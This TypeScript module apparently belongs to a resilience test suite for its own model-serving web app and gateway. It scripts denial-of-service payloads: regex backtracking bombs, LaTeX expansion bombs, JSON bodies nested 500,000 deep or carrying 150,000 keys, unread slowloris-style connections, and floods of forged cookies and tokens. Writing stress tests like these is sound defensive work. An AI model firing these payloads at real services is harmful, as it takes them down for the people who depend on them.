import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { callApi, headersOf, type Session } from './get-access.ts'
import { call } from './read-stream.ts'

export type Target = {
  web: string
  gateway: string
  /** Of the attacker: a member of a team, and one who may read everything. */
  member: Session
  admin: Session
  /** Of a pod of the attacker's team. */
  token: string
  binding: { namespace: string; name: string; run: string }
}

export type Attack = {
  name: string
  /** Whose clients wait meanwhile: people on the web, or another team at the gateway. */
  victim: 'web' | 'gateway'
  run(target: Target): Promise<unknown>
}

const many = <T>(count: number, act: (i: number) => Promise<T>): Promise<T[]> =>
  Promise.all(Array.from({ length: count }, (_, i) => act(i)))

const keys = JSON.stringify(
  Object.fromEntries(Array.from({ length: 150_000 }, (_, i) => [`k${i}`, 1])),
)

/** What a person or a model may write that is dear to render: quadratic scans, macros that double, deep nesting. */
const texts = {
  macros: `$\\def\\a{${'x'.repeat(1000)}}${'\\a'.repeat(50)}$`,
  blocks: '\\[\n\n'.repeat(20_000),
  parentheses: '\\(a'.repeat(20_000),
  links: '[a](b '.repeat(10_000),
  brackets: '['.repeat(60_000),
  alignments: '\\begin{align}'.repeat(6_000),
}

const expressions = [
  '\\pL{999}'.repeat(62),
  '[k-zK]{0,999}'.repeat(38),
  `${'(a?){30}'.repeat(40)}b`,
]

function ask({ member, binding }: Target, text: string) {
  const { namespace, name } = binding
  const sampling = { temperature: 1, topP: 0.95, topK: -1, maxTokens: 1 }
  return callApi<{ conversation: { id: string } }>(member, 'POST', '/api/generations', {
    question: { text },
    variants: [{ binding: { namespace, name }, systemPrompt: '', sampling }],
  })
}

function post({ member, web }: Target, path: string, body: string) {
  return call('POST', web + path, headersOf(member), body)
}

/** Connections that send a request and never read the answer. */
async function unread(session: Session, path: string, count: number, forMs: number): Promise<void> {
  const { hostname, port } = new URL(session.origin)
  const sockets: Socket[] = await many(count, async () => {
    const socket = connect(Number(port), hostname).on('error', () => {})
    await once(socket, 'connect')
    socket.write(
      `GET ${path} HTTP/1.1\r\nhost: ${hostname}:${port}\r\ncookie: ${session.cookie}\r\nsec-fetch-site: same-origin\r\n\r\n`,
    )
    return socket.pause()
  })
  await new Promise((resolve) => setTimeout(resolve, forMs))
  for (const socket of sockets) socket.destroy()
}

/** Each as somebody with an ordinary account could do it. */
export const attacks: Attack[] = [
  ...Object.entries(texts).map(([name, text]) => ({
    name: `export ${name} as HTML and LaTeX`,
    victim: 'web' as const,
    run: async (target: Target) => {
      const { conversation } = await ask(target, text)
      const path = `/api/conversations/${conversation.id}/export?format=`
      await many(6, (i) =>
        call('GET', target.web + path + (i % 2 ? 'html' : 'latex'), headersOf(target.member)),
      )
    },
  })),
  ...expressions.map((q, i) => ({
    name: `search a log by expression ${i + 1}`,
    victim: 'web' as const,
    run: ({ admin, web, binding }: Target) => {
      const query = new URLSearchParams({ q, regex: 'true' })
      const path = `/api/runs/model-serving-prod/${binding.run}/log/search?${query}`
      return many(10, () => call('GET', web + path, headersOf(admin)))
    },
  })),
  {
    name: 'ask with 150,000 unknown keys',
    victim: 'web',
    run: (target) => many(10, () => post(target, '/api/generations', keys)),
  },
  {
    name: 'ask with 200,000 empty variants',
    victim: 'web',
    run: (target) => {
      const body = `{"question":{"text":"a"},"variants":[${'{},'.repeat(199_999)}{}]}`
      return many(10, () => post(target, '/api/generations', body))
    },
  },
  {
    name: 'ask with 500,000 nested lists',
    victim: 'web',
    run: (target) => many(10, () => post(target, '/api/generations', '['.repeat(500_000))),
  },
  {
    name: '450 live lists that nobody reads',
    victim: 'web',
    run: ({ member }) => unread(member, '/api/stream', 450, 3_000),
  },
  {
    name: 'live lists that come and go',
    victim: 'web',
    run: async ({ member }) => {
      for (let round = 0; round < 20; round++) await unread(member, '/api/stream', 25, 50)
    },
  },
  {
    name: '60 exports of the audit trail that nobody reads',
    victim: 'web',
    run: ({ admin }) => unread(admin, '/api/audit/export.jsonl', 60, 3_000),
  },
  {
    name: 'verify the audit trail 30 times at once',
    victim: 'web',
    run: ({ admin, web }) =>
      many(30, () => call('POST', `${web}/api/audit/verify`, headersOf(admin), '{}')),
  },
  {
    name: '60 requests for access',
    victim: 'web',
    run: (target) =>
      many(60, (i) => {
        const { durationDays, quota } = {
          durationDays: 1,
          quota: { requestsPerMinute: 1, tokensPerDay: 1000, concurrency: 1 },
        }
        const asked = {
          namespace: target.binding.namespace,
          modelService: { namespace: 'model-serving-prod', name: 'vibethinker' },
          strategy: 'ExternalName',
          alias: `attack-${i}`,
          justification: 'x'.repeat(2000),
          purpose: 'Evaluation',
          durationDays,
          quota,
        }
        return post(target, '/api/bindings', JSON.stringify(asked))
      }),
  },
  {
    name: '1,000 cookies that are none',
    victim: 'web',
    run: ({ web }) =>
      many(1_000, (i) =>
        call('GET', `${web}/api/me`, { cookie: `next-auth.session-token=${'x'.repeat(40)}${i}` }),
      ),
  },
  {
    name: 'the gateway: 10 bodies with 150,000 unknown keys',
    victim: 'gateway',
    run: ({ gateway, token }) =>
      many(10, () => call('POST', `${gateway}/v1/chat/completions`, bearer(token), keys)),
  },
  {
    name: 'the gateway: 10 bodies nested 500,000 deep',
    victim: 'gateway',
    run: ({ gateway, token }) =>
      many(10, () =>
        call('POST', `${gateway}/v1/chat/completions`, bearer(token), '['.repeat(500_000)),
      ),
  },
  {
    name: 'the gateway: 1,000 tokens that are none',
    victim: 'gateway',
    run: ({ gateway }) =>
      many(1_000, (i) => call('GET', `${gateway}/v1/models`, bearer(`${'x'.repeat(40)}${i}`))),
  },
]

function bearer(token: string): Record<string, string> {
  return { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
}
